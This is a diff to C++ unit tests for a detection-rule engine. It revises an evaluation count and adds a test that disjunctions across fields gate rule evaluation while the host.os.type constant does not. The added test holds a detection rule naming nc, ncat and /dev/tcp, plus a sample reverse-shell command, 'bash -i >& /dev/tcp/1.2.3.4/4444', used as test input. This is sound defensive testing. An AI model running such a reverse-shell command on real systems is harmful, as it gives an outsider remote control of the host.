@@ -289,8 +289,9 @@ TEST_F(EngineTest, EnumerationGuardIsCheckedOncePerEventBeforeEvaluation) {
   Event start = proc("a", 1, "", "p1");
   start.set_int(fields::kProcessPid, 10);
   m->process(start, sink);
-  EXPECT_EQ(sink.count, 2u + 10u);                   // pid 10 > k for k = 0..9
-  EXPECT_EQ(m->stats().evaluations, 2u + 50u + 1u);  // the `or` rule: no literal to gate it
+  EXPECT_EQ(sink.count, 2u + 10u);  // pid 10 > k for k = 0..9
+  // The `or` rule is gated by its branches (event.type "end" or process.name "zz"): skipped.
+  EXPECT_EQ(m->stats().evaluations, 2u + 50u);
 }
 
 TEST_F(EngineTest, EveryConjunctRequirementGatesEvaluation) {
@@ -317,6 +318,70 @@ TEST_F(EngineTest, EveryConjunctRequirementGatesEvaluation) {
   m->process(e, sink);
   ASSERT_EQ(sink.hits.size(), 2u);
   EXPECT_EQ(sink.hits[1].rule, 1u);
+}
+
+// Elastic's Linux rules: `host.os.type == "linux"` holds on every event of a Linux host and
+// must never be the discriminator; a disjunction over different fields (and conjunctions inside
+// it) gates evaluation by any one branch's requirement.
+TEST_F(EngineTest, DisjunctionsAcrossFieldsGateAndHostConstantsDoNot) {
+  const FieldId os = reg_.find("host.os.type");
+  ASSERT_NE(os, kInvalidField);
+  auto rules = compile({
+      "process where host.os.type == \"linux\" and event.type == \"start\" and (\n"
+      "  process.name in (\"nc\", \"ncat\") or process.command_line : \"*/dev/tcp/*\" or\n"
+      "  (process.parent.name == \"nginx\" and process.name : \"*sh\"))",
+  });
+  auto m = rules->make_matcher();
+  Sink sink;
+  auto linux_proc = [&](std::string_view name, int64_t t, std::string_view cmd,
+                        std::string_view parent_name = "") {
+    Event e = proc(name, t, cmd);
+    e.set_string(os, "linux");
+    if (!parent_name.empty()) e.set_string(fields::kProcessParentName, parent_name);
+    return e;
+  };
+  m->process(linux_proc("bash", 0, "bash -c ls"), sink);  // no branch's literal: skipped
+  m->process(linux_proc("ls", 1, "ls /"), sink);
+  EXPECT_EQ(m->stats().evaluations, 0u);
+  m->process(linux_proc("NC", 2, "nc -l"), sink);  // `in` is case-sensitive: evaluated, no match
+  m->process(linux_proc("nc", 3, "nc -l"), sink);
+  m->process(linux_proc("bash", 4, "bash -i >& /dev/tcp/1.2.3.4/4444"), sink);
+  m->process(linux_proc("dash", 5, "dash", "nginx"), sink);
+  m->process(linux_proc("ls", 6, "ls", "nginx"), sink);  // near miss: evaluated, no match
+  ASSERT_EQ(sink.hits.size(), 3u);
+  EXPECT_EQ(sink.hits[0].names[0], "nc");
+  EXPECT_EQ(sink.hits[1].names[0], "bash");
+  EXPECT_EQ(sink.hits[2].names[0], "dash");
+  EXPECT_EQ(m->stats().evaluations, 5u);
+
+  // Extraction: the disjunction's alternatives on three fields; host.os.type is not among them.
+  Program p;
+  StringMatcherSpec linux_spec;
+  linux_spec.kind = StrMatchKind::kExact;
+  linux_spec.patterns = {"linux"};
+  const NodeRef host =
+      p.str_match(p.field(os, StaticType::kString), StringMatcher::create(linux_spec, nullptr));
+  StringMatcherSpec nc;
+  nc.kind = StrMatchKind::kExact;
+  nc.patterns = {"nc"};
+  const NodeRef name = p.str_match(p.field(fields::kProcessName, StaticType::kString),
+                                   StringMatcher::create(nc, nullptr));
+  StringMatcherSpec tcp;
+  tcp.kind = StrMatchKind::kWildcard;
+  tcp.patterns = {"*/dev/tcp/*"};
+  const NodeRef cmd = p.str_match(p.field(fields::kProcessCommandLine, StaticType::kString),
+                                  StringMatcher::create(tcp, nullptr));
+  const NodeRef either[] = {name, cmd};
+  const NodeRef all[] = {host, p.or_(either)};
+  const auto sets = extract_requirement_sets(p, p.and_(all), 4);
+  ASSERT_EQ(sets.size(), 1u);
+  ASSERT_EQ(sets[0].size(), 2u);
+  EXPECT_EQ(sets[0][0].field, fields::kProcessName);
+  EXPECT_EQ(sets[0][1].field, fields::kProcessCommandLine);
+  // Alone, the host constant is still better than nothing.
+  const auto only = extract_requirement_sets(p, host, 4);
+  ASSERT_EQ(only.size(), 1u);
+  EXPECT_EQ(only[0][0].field, os);
 }
 
 TEST_F(EngineTest, StringFunctionsAreSubstringRequirements) {
